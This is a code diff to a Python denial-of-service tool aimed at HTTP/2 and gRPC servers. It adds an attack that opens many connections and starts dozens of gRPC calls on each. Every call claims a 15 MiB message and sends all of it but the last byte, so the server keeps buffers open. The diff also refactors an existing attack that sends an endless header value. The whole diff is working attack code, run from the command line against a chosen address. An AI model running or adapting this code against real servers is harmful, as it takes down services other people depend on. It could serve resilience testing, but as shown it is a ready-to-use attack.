@@ -21,18 +21,120 @@ def connect(address):
     return connection
 
 
+def secure(connection):
+    """With TLS, whoever is there."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    return context.wrap_socket(connection)
+
+
 def close(connections):
     for connection in connections:
         connection.close()
 
 
-def frame(kind, payload, stream=1):
-    """Of HTTP/2, without flags."""
-    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + stream.to_bytes(4, "big") + payload
+def frame(kind, payload, stream=1, flags=0):
+    """Of HTTP/2."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+DATA, HEADERS, RESET, SETTINGS, WINDOW = 0, 1, 3, 4, 8
+BEGIN = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, b"", 0)
+
+
+def call_headers(method):
+    """Of a gRPC call, fields without an index."""
+    fields = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "a"), ("te", "trailers"),
+              ("content-type", "application/grpc"))
+    return b"".join(b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+                    for name, value in fields)
+
+
+class UnfinishedCalls:
+    """A connection whose calls each send a message but for its last byte, as far as the other side lets them."""
+
+    def __init__(self, address, method, calls, size):
+        self.connection = connect(address)
+        self.connection.setblocking(False)
+        self.waiting, self.received = bytearray(BEGIN), bytearray()
+        self.window, self.first_window, self.windows = 65535, 65535, {}
+        self.left, self.sent = {}, 0
+        for stream in range(1, 2 * calls, 2):
+            self.waiting += frame(HEADERS, call_headers(method), stream, flags=4)
+            self.left[stream], self.windows[stream] = size + 5, 0
+        self.size = size
+
+    def hear(self):
+        """Takes what has come; whether the connection still is."""
+        try:
+            while part := self.connection.recv(1 << 16):
+                self.received += part
+            return False
+        except BlockingIOError:
+            pass
+        except OSError:
+            return False
+        while len(self.received) >= 9:
+            end = 9 + int.from_bytes(self.received[:3], "big")
+            if len(self.received) < end:
+                break
+            kind, flags, payload = self.received[3], self.received[4], bytes(self.received[9:end])
+            stream = int.from_bytes(self.received[5:9], "big")
+            del self.received[:end]
+            if kind == SETTINGS and not flags & 1:
+                for at in range(0, len(payload), 6):
+                    if payload[at:at + 2] == b"\0\x04":
+                        self.first_window = int.from_bytes(payload[at + 2:at + 6], "big")
+                self.waiting += frame(SETTINGS, b"", 0, flags=1)
+            elif kind == WINDOW and stream == 0:
+                self.window += int.from_bytes(payload, "big")
+            elif kind == WINDOW and stream in self.windows:
+                self.windows[stream] += int.from_bytes(payload, "big")
+            elif kind in (RESET, HEADERS):  # it was answered
+                self.left.pop(stream, None)
+        return True
+
+    def turn(self):
+        """Sends what can be sent; whether the connection still is."""
+        if not self.hear():
+            return False
+        for stream, left in self.left.items():
+            size = min(16384, self.window, self.first_window + self.windows[stream], left - 1)
+            if size <= 0 or len(self.waiting) > 1 << 20:
+                continue
+            prefix = b"\0" + self.size.to_bytes(4, "big") if left == self.size + 5 else b""
+            self.waiting += frame(DATA, prefix.ljust(size, b"\n"), stream)
+            self.window -= size
+            self.windows[stream] -= size
+            self.left[stream] -= size
+            self.sent += size
+        with contextlib.suppress(BlockingIOError):
+            del self.waiting[:self.connection.send(self.waiting)]
+        return True
+
+
+def send_unfinished(address, done, most=1 << 62, method="/grpc.health.v1.Health/Check", connections=8, calls=64,
+                    size=15 << 20):
+    """At most so many bytes in all; returns how many."""
+    sent, live = 0, []
+    while not done.is_set() and sent + sum(attacker.sent for attacker in live) < most:
+        while len(live) < connections:
+            live.append(UnfinishedCalls(address, method, calls, size))
+        for attacker in list(live):
+            with contextlib.suppress(OSError):
+                if attacker.turn():
+                    continue
+            live.remove(attacker)
+            sent += attacker.sent
+            attacker.connection.close()
+        time.sleep(0.001)
+    close([attacker.connection for attacker in live])
+    return sent + sum(attacker.sent for attacker in live)
 
 
 # A connection's beginning, and of a call the field "a" whose value is to have 1 GiB; what comes is of that value.
-ENDLESS = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, b"", 0) + frame(1, b"\0\1a\x7f\x81\xff\xff\xff\x03value"))
+ENDLESS = BEGIN + frame(HEADERS, b"\0\1a\x7f\x81\xff\xff\xff\x03value")
 
 
 def send_endless_headers(address, done, secured=False):
@@ -42,10 +144,7 @@ def send_endless_headers(address, done, secured=False):
         connection = connect(address)
         try:
             if secured:
-                context = ssl.create_default_context()
-                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-                context.set_alpn_protocols(["h2"])
-                connection = context.wrap_socket(connection)
+                connection = secure(connection)
             connection.settimeout(0.5)
             connection.sendall(ENDLESS)
             while not done.is_set():
@@ -72,5 +171,5 @@ def hold_connections(address, done):
 
 if __name__ == "__main__":
     os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
-    attack = {"connections": hold_connections, "headers": send_endless_headers}[sys.argv[1]]
+    attack = {"connections": hold_connections, "headers": send_endless_headers, "messages": send_unfinished}[sys.argv[1]]
     attack(sys.argv[2], threading.Event())
